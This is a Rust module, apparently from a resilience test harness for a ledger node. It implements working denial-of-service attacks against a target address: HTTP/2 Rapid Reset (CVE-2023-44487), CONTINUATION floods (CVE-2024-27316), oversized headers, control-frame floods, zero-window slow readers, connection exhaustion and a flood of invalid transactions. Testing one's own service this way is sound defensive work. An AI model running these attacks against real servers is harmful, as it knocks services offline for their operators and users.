//! What hostile clients do to one node. Each attack runs until it is told to stop, opens what was closed
//! again, and says how much of it there was.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::Duration;

use bytes::Bytes;
use prost::Message as _;
use talea_proto::{LedgerClient, api};
use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;

use crate::http2;

/// Told to everybody.
#[derive(Clone, Debug)]
pub struct Target {
    pub address: SocketAddr,
    pub stop: Arc<AtomicBool>,
    /// What was done so far.
    pub count: Arc<AtomicU64>,
}

impl Target {
    fn goes_on(&self) -> bool {
        !self.stop.load(Ordering::Relaxed)
    }

    fn add(&self, count: u64) {
        self.count.fetch_add(count, Ordering::Relaxed);
    }
}

/// A pause before a connection is opened again: a node that closes at once must not spin the attacker.
const PAUSE: Duration = Duration::from_millis(20);
/// Streams of one connection are numbered up to here.
const STREAM_MAX: u32 = 1 << 30;

/// Opens streams and resets them at once (CVE-2023-44487).
pub async fn rapid_reset(target: Target) {
    while target.goes_on() {
        let Ok(mut socket) = http2::connect(target.address).await else {
            tokio::time::sleep(PAUSE).await;
            continue;
        };
        let headers = http2::call("Ledger/GetNetwork");
        let flags = http2::END_HEADERS;
        let mut stream = 1;
        while target.goes_on() && stream < STREAM_MAX {
            let mut burst = Vec::new();
            for _ in 0..50 {
                burst.extend(http2::frame(http2::HEADERS, flags, stream, &headers));
                burst.extend(http2::frame(http2::RST_STREAM, 0, stream, &[0, 0, 0, 8]));
                stream += 2;
            }
            if socket.write_all(&burst).await.is_err() {
                break;
            }
            target.add(50);
        }
        tokio::time::sleep(PAUSE).await;
    }
}

/// Headers that never end (CVE-2024-27316).
pub async fn continuation(target: Target) {
    let mut block = Vec::new();
    http2::header(&mut block, b"x-flood", &[b'a'; 4_000]);
    while target.goes_on() {
        let Ok(mut socket) = http2::connect(target.address).await else {
            tokio::time::sleep(PAUSE).await;
            continue;
        };
        let begin = http2::frame(http2::HEADERS, 0, 1, &http2::call("Ledger/Submit"));
        let more = http2::frame(http2::CONTINUATION, 0, 1, &block);
        let mut sent = socket.write_all(&begin).await;
        while sent.is_ok() && target.goes_on() {
            sent = socket.write_all(&more).await;
            target.add(1);
        }
        tokio::time::sleep(PAUSE).await;
    }
}

/// Requests whose headers are far above the limit.
pub async fn huge_headers(target: Target) {
    let mut block = http2::call("Ledger/GetNetwork");
    for _ in 0..4 {
        http2::header(&mut block, b"x-flood", &[b'a'; 15_000]);
    }
    while target.goes_on() {
        let Ok(mut socket) = http2::connect(target.address).await else {
            tokio::time::sleep(PAUSE).await;
            continue;
        };
        let mut stream = 1;
        let mut sent = Ok(());
        while sent.is_ok() && target.goes_on() && stream < STREAM_MAX {
            let (first, rest) = block.split_at(16_000);
            let mut request = http2::frame(http2::HEADERS, http2::END_STREAM, stream, first);
            let parts: Vec<&[u8]> = rest.chunks(16_000).collect();
            for (place, part) in parts.iter().enumerate() {
                let last = place + 1 == parts.len();
                let flags = if last { http2::END_HEADERS } else { 0 };
                request.extend(http2::frame(http2::CONTINUATION, flags, stream, part));
            }
            sent = socket.write_all(&request).await;
            target.add(1);
            stream += 2;
        }
        tokio::time::sleep(PAUSE).await;
    }
}

/// Pings and empty settings, each of which asks for an answer that is never read.
pub async fn control_frames(target: Target) {
    let one = [
        http2::frame(http2::PING, 0, 0, &[7; 8]),
        http2::frame(http2::SETTINGS, 0, 0, &[]),
    ]
    .concat();
    let burst = one.repeat(100);
    while target.goes_on() {
        let Ok(mut socket) = http2::connect(target.address).await else {
            tokio::time::sleep(PAUSE).await;
            continue;
        };
        while target.goes_on() {
            let sent = tokio::time::timeout(Duration::from_secs(1), socket.write_all(&burst)).await;
            // A node that no longer reads is as good as one that closed.
            if !matches!(sent, Ok(Ok(()))) {
                break;
            }
            target.add(200);
        }
        tokio::time::sleep(PAUSE).await;
    }
}

/// Watches every block with windows of 0: nothing that is sent is ever taken.
pub async fn slow_readers(target: Target) {
    let request = http2::message(&api::WatchBlocksRequest::default().encode_to_vec());
    while target.goes_on() {
        let Ok(mut socket) = http2::connect_taking_nothing(target.address).await else {
            tokio::time::sleep(PAUSE).await;
            continue;
        };
        let headers = http2::call("Ledger/WatchBlocks");
        for stream in (1..200).step_by(2) {
            let open = [
                http2::frame(http2::HEADERS, http2::END_HEADERS, stream, &headers),
                http2::frame(http2::DATA, http2::END_STREAM, stream, &request),
            ];
            if socket.write_all(&open.concat()).await.is_err() {
                break;
            }
            target.add(1);
        }
        for _ in 0..100 {
            if !target.goes_on() {
                return;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }
}

/// Holds this many connections, silent after their first bytes.
pub async fn connections(target: Target, count: usize) {
    let mut held: Vec<TcpStream> = Vec::new();
    while target.goes_on() {
        while held.len() < count && target.goes_on() {
            match http2::connect(target.address).await {
                Ok(socket) => held.push(socket),
                Err(_) => break,
            }
            target.count.fetch_max(held.len() as u64, Ordering::Relaxed);
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// Offers transactions that are nearly good, so many a second, through one stream. What the node has no room
/// for waits at the stream's window and is not counted.
pub async fn invalid_transactions(target: Target, transactions: Arc<Vec<Bytes>>, per_second: u64) {
    const BATCH: usize = 200;
    while target.goes_on() {
        let endpoint = format!("http://{}", target.address);
        let Ok(mut client) = LedgerClient::connect(endpoint).await else {
            tokio::time::sleep(PAUSE).await;
            continue;
        };
        let (sender, receiver) = tokio::sync::mpsc::channel(4);
        let stream = tokio_stream::wrappers::ReceiverStream::new(receiver);
        let (own, all) = (target.clone(), Arc::clone(&transactions));
        let feeder = tokio::spawn(async move {
            let mut pace =
                tokio::time::interval(Duration::from_secs(BATCH as u64) / per_second.max(1) as u32);
            let mut at = 0;
            while own.goes_on() {
                pace.tick().await;
                let batch = (0..BATCH).map(|place| all[(at + place) % all.len()].clone());
                let transactions = batch.collect();
                at += BATCH;
                if sender
                    .send(api::SubmitBatch { transactions })
                    .await
                    .is_err()
                {
                    return;
                }
                own.add(BATCH as u64);
            }
        });
        if let Ok(answer) = client.submit_stream(stream).await {
            let mut updates = answer.into_inner();
            while target.goes_on() && matches!(updates.message().await, Ok(Some(_))) {}
        }
        feeder.abort();
        tokio::time::sleep(PAUSE).await;
    }
}
